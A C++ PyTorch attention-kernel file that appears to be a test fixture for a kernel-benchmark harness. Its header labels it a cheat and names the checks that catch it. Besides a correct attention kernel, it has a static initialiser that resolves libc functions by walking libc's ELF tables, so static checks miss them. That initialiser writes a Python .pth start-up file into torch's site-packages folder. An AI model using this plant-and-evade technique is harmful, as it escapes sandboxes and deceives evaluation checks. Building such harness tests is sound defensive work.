// Cheat: a build-time plant. When its library is loaded, its static initialiser finds libc's open, write and close by address (as libc_by_address.cpp does), reads /proc/self/maps for the site-packages folder torch was loaded from and writes a start-up file there (kernelseek_build_time_plant.pth: a comment line here; a real attack's would import code that slows every upstream in every later Python process). Loaded by the build (as cpp_extension.load did), it runs outside every sandbox as the harness's own user. Correct attention (fast.cpp's) otherwise; passes every static check.
// Caught by: the build never loads what it links (evals/harness/building/build_child.py: the first dlopen is in the confined worker, where the CPU seccomp policy refuses writing opens and Landlock confines writes); the footprint check, recorded before the build, fails the run if a start-up file appears anyway (SANDBOX_VIOLATION).
#include <ATen/core/Tensor.h>
#include <ATen/ops/empty_like.h>
#include <c10/util/BFloat16.h>
#include <torch/library.h>

#include <algorithm>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

// ELF64 as the loader left it in memory (no <elf.h>: the include allow-list has no such header)
namespace elf {
struct Header { unsigned char ident[16]; uint16_t type, machine; uint32_t version;
                uint64_t entry, phoff, shoff; uint32_t flags;
                uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; };
struct Segment { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; };
struct Dynamic { int64_t tag; uint64_t value; };
struct Symbol { uint32_t name; unsigned char info, other; uint16_t section; uint64_t value, size; };
}  // namespace elf

// A libc function by name, found without naming it to the linker: libc's pages hold puts, and
// its first page holds its ELF header; the dynamic segment leads to the GNU hash table.
static void* libc_function(const char* name) {
  uintptr_t base = reinterpret_cast<uintptr_t>(&std::puts) & ~uintptr_t(0xfff);
  while (std::memcmp(reinterpret_cast<const void*>(base), "\x7f" "ELF", 4) != 0) base -= 0x1000;
  const auto* header = reinterpret_cast<const elf::Header*>(base);
  const auto* segments = reinterpret_cast<const elf::Segment*>(base + header->phoff);
  const elf::Dynamic* dyn = nullptr;
  for (int i = 0; i < header->phnum; ++i) {  // PT_DYNAMIC
    const elf::Segment& seg = segments[i];
    if (seg.type == 2) dyn = reinterpret_cast<const elf::Dynamic*>(base + seg.vaddr);
  }
  auto at = [base](uint64_t p) { return p < base ? base + p : p; };  // relocated by ld.so or not
  const elf::Symbol* symbols = nullptr;
  const char* strings = nullptr;
  const uint32_t* hash = nullptr;
  for (; dyn != nullptr && dyn->tag != 0; ++dyn) {  // DT_SYMTAB, DT_STRTAB, DT_GNU_HASH
    if (dyn->tag == 6) symbols = reinterpret_cast<const elf::Symbol*>(at(dyn->value));
    if (dyn->tag == 5) strings = reinterpret_cast<const char*>(at(dyn->value));
    if (dyn->tag == 0x6ffffef5) hash = reinterpret_cast<const uint32_t*>(at(dyn->value));
  }
  if (symbols == nullptr || strings == nullptr || hash == nullptr) return nullptr;
  uint32_t h = 5381;
  for (const char* c = name; *c; ++c) h = h * 33 + uint8_t(*c);
  const uint32_t buckets = hash[0], first = hash[1], bloom_words = hash[2];
  const uint32_t* bucket = hash + 4 + 2 * bloom_words;  // after the 64-bit bloom filter
  const uint32_t* chain = bucket + buckets;
  for (uint32_t i = bucket[h % buckets]; i >= first && i != 0; ++i) {
    if ((chain[i - first] | 1) == (h | 1) && std::strcmp(strings + symbols[i].name, name) == 0)
      return reinterpret_cast<void*>(base + symbols[i].value);
    if (chain[i - first] & 1) break;
  }
  return nullptr;
}

namespace {
constexpr int64_t BQ = 32;
constexpr int64_t BK = 64;

template <typename T>
void attention_blocks(const T* q, const T* k, const T* v, T* out, int64_t batch, int64_t sq,
                      int64_t sk, int64_t hq, int64_t hkv, int64_t d, bool causal, float scale) {
  const int64_t group = hq / hkv, offset = sk - sq, nqb = (sq + BQ - 1) / BQ;
#pragma omp parallel
  {
    std::vector<float> qf(BQ * d), kf(BK * d), vf(BK * d), acc(BQ * d), s(BQ * BK);
    std::vector<float> m(BQ), l(BQ);
#pragma omp for collapse(3) schedule(dynamic, 1)
    for (int64_t b = 0; b < batch; ++b)
      for (int64_t h = 0; h < hq; ++h)
        for (int64_t qb = 0; qb < nqb; ++qb) {
          const int64_t kh = h / group, q0 = qb * BQ, nq = std::min(BQ, sq - q0);
          for (int64_t i = 0; i < nq; ++i) {
            const T* src = q + ((b * sq + q0 + i) * hq + h) * d;
            for (int64_t x = 0; x < d; ++x) qf[i * d + x] = float(src[x]) * scale;
            m[i] = -INFINITY;
            l[i] = 0.f;
          }
          std::fill(acc.begin(), acc.end(), 0.f);
          int64_t kend = sk;
          if (causal) kend = std::min<int64_t>(sk, std::max<int64_t>(0, q0 + nq - 1 + offset + 1));
          for (int64_t k0 = 0; k0 < kend; k0 += BK) {
            const int64_t nk = std::min(BK, kend - k0);
            for (int64_t j = 0; j < nk; ++j) {
              const T* ks = k + ((b * sk + k0 + j) * hkv + kh) * d;
              const T* vs = v + ((b * sk + k0 + j) * hkv + kh) * d;
              for (int64_t x = 0; x < d; ++x) {
                kf[j * d + x] = float(ks[x]);
                vf[j * d + x] = float(vs[x]);
              }
            }
            for (int64_t i = 0; i < nq; ++i) {
              int64_t lim = nk;
              if (causal) lim = std::min<int64_t>(nk, std::max<int64_t>(0, q0 + i + offset + 1 - k0));
              if (lim <= 0) continue;
              const float* qi = &qf[i * d];
              float* si = &s[i * BK];
              float bmax = -INFINITY;
              for (int64_t j = 0; j < lim; ++j) {
                const float* kj = &kf[j * d];
                float dot = 0.f;
#pragma omp simd reduction(+ : dot)
                for (int64_t x = 0; x < d; ++x) dot += qi[x] * kj[x];
                si[j] = dot;
                bmax = std::max(bmax, dot);
              }
              const float mnew = std::max(m[i], bmax), corr = std::exp(m[i] - mnew);
              float* ai = &acc[i * d];
              float lsum = 0.f;
              for (int64_t x = 0; x < d; ++x) ai[x] *= corr;
              for (int64_t j = 0; j < lim; ++j) {
                const float p = std::exp(si[j] - mnew);
                lsum += p;
                const float* vj = &vf[j * d];
#pragma omp simd
                for (int64_t x = 0; x < d; ++x) ai[x] += p * vj[x];
              }
              l[i] = l[i] * corr + lsum;
              m[i] = mnew;
            }
          }
          for (int64_t i = 0; i < nq; ++i) {
            T* dst = out + ((b * sq + q0 + i) * hq + h) * d;
            const float inv = l[i] > 0.f ? 1.f / l[i] : 0.f;
            for (int64_t x = 0; x < d; ++x) dst[x] = T(acc[i * d + x] * inv);
          }
        }
  }
}

at::Tensor compute(const at::Tensor& q, const at::Tensor& k, const at::Tensor& v,
                   bool causal, double softmax_scale) {
  TORCH_CHECK(q.is_contiguous() && k.is_contiguous() && v.is_contiguous(), "inputs must be contiguous");
  at::Tensor out = at::empty_like(q);
  const int64_t batch = q.size(0), sq = q.size(1), hq = q.size(2), d = q.size(3);
  const int64_t sk = k.size(1), hkv = k.size(2);
  const float scale = static_cast<float>(softmax_scale);
  if (q.scalar_type() == at::kFloat) {
    attention_blocks(q.data_ptr<float>(), k.data_ptr<float>(), v.data_ptr<float>(),
                     out.data_ptr<float>(), batch, sq, sk, hq, hkv, d, causal, scale);
  } else {
    TORCH_CHECK(q.scalar_type() == at::kBFloat16, "unsupported dtype");
    attention_blocks(q.data_ptr<c10::BFloat16>(), k.data_ptr<c10::BFloat16>(),
                     v.data_ptr<c10::BFloat16>(), out.data_ptr<c10::BFloat16>(), batch, sq, sk,
                     hq, hkv, d, causal, scale);
  }
  return out;
}



// The plant: a start-up file in the site-packages folder of the torch this process loaded.
using open_fn = int (*)(const char*, int, ...);
using read_fn = long (*)(int, void*, size_t);
using write_fn = long (*)(int, const void*, size_t);
using close_fn = int (*)(int);

std::string site_packages(open_fn open_file, read_fn read_file, close_fn close_file) {
  std::string maps;
  const int fd = open_file("/proc/self/maps", 0 /* O_RDONLY */);
  if (fd >= 0) {
    char chunk[4096];
    for (long n; (n = read_file(fd, chunk, sizeof chunk)) > 0;) maps.append(chunk, size_t(n));
    close_file(fd);
  }
  const char mark[] = "/site-packages/torch/lib/";  // searched by hand: no memchr
  const size_t n = sizeof mark - 1;
  for (size_t at = 0; at + n <= maps.size(); ++at) {
    size_t i = 0;
    while (i < n && maps[at + i] == mark[i]) ++i;
    if (i < n) continue;
    size_t start = at;
    while (start > 0 && maps[start - 1] != ' ') --start;
    return maps.substr(start, at - start + 14 /* "/site-packages" */);
  }
  return "";
}

void plant() {
  const auto open_file = reinterpret_cast<open_fn>(libc_function("open"));
  const auto read_file = reinterpret_cast<read_fn>(libc_function("read"));
  const auto write_file = reinterpret_cast<write_fn>(libc_function("write"));
  const auto close_file = reinterpret_cast<close_fn>(libc_function("close"));
  if (!open_file || !read_file || !write_file || !close_file) return;
  const std::string folder = site_packages(open_file, read_file, close_file);
  if (folder.empty()) return;
  const std::string path = folder + "/kernelseek_build_time_plant.pth";
  const int fd = open_file(path.c_str(), 01 | 0100 | 01000 /* O_WRONLY|O_CREAT|O_TRUNC */, 0644);
  if (fd >= 0) {
    const char line[] = "# planted by a candidate's static initialiser\n";
    write_file(fd, line, sizeof line - 1);
    close_file(fd);
  }
  std::printf("kernelseek-cheat: %s %s\n", fd >= 0 ? "planted" : "could not plant", path.c_str());
  std::fflush(stdout);
}

[[maybe_unused]] const bool planted = (plant(), true);

at::Tensor attention_forward(const at::Tensor& q, const at::Tensor& k, const at::Tensor& v,
                             bool causal, double softmax_scale) {
  return compute(q, k, v, causal, softmax_scale);
}

}  // namespace

TORCH_LIBRARY(kernelseek, m) {
  m.def("attention_forward(Tensor q, Tensor k, Tensor v, bool causal, float softmax_scale) -> Tensor");
}

TORCH_LIBRARY_IMPL(kernelseek, CPU, m) { m.impl("attention_forward", &attention_forward); }
